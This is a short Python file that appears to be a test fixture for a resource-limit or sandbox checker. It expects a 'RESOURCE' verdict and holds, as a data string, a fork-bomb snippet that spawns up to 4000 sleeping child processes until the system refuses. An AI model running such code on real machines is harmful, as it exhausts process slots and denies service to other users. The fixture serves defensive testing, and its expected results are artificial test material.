"""Starts processes until nothing goes any more."""

EXPECT = {"verdict": "RESOURCE", "half": 0, "mirror": 5, "says": "processes"}
ANSWERS = {
    "half": "import os, time\nfor _ in range(4000):\n    try:\n        if os.fork() == 0: time.sleep(60); os._exit(0)\n    except OSError: time.sleep(0.01)"
}
